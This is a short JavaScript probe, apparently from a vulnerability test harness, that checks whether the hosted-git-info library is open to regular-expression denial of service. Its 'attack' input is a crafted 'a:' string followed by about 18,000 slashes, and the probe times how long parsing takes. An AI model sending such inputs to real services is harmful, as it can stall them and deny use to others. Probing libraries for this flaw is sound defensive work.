// hosted-git-info probe: resolve a repository shortcut to its https URL; 'attack' is the ReDoS input.
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const hostedGitInfo = require('hosted-git-info');

// fromUrl caches its answers by input, so each attack is a different string.
let attacks = 0;

export function probe(input) {
  const text = input === 'attack' ? 'a:' + '/'.repeat(18000 + (attacks++ % 1000)) : input;
  const t0 = performance.now();
  const info = hostedGitInfo.fromUrl(text);
  const result = info ? info.https() : null;
  return { result, exploited: performance.now() - t0 > 100 };
}
